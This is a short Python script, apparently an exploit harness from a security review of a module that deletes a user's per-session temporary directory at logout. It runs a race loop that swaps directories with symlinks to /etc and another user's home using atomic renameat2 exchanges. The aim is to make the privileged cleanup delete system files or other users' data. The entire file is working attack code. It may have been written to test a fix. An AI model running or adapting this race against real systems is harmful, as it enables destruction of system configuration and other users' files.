#!/usr/bin/python3
# The user's leftover process of attack_cleanup.sh (issue 6, entry 11): keeps
# running in her session's namespace while the module removes her tmpdir
# instance at close, and keeps swapping directories inside it with symlinks
# to /etc and another user's home (atomic RENAME_EXCHANGE), moving them out
# of the instance and back, and refilling them.
#   cleanup_racer.py DIR STASH SECONDS
import ctypes
import os
import sys
import time

top, stash, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
libc = ctypes.CDLL(None, use_errno=True)


def exchange(a, b):
    return libc.renameat2(-100, a.encode(), -100, b.encode(), 2) == 0


def quietly(fn, *args):
    try:
        fn(*args)
    except OSError:
        pass


end = time.time() + seconds
i = 0
while time.time() < end:
    i += 1
    d = os.path.join(top, f"d{i % 8}")
    quietly(os.makedirs, os.path.join(d, "x", "y"))
    quietly(lambda: open(os.path.join(d, "x", "f"), "w").close())
    quietly(os.symlink, "/etc" if i % 2 else "/home/bob", d + ".link")
    exchange(d, d + ".link")
    exchange(d, d + ".link")
    quietly(os.rename, d, os.path.join(stash, f"d{i % 8}"))
    quietly(os.rename, os.path.join(stash, f"d{i % 8}"), d)
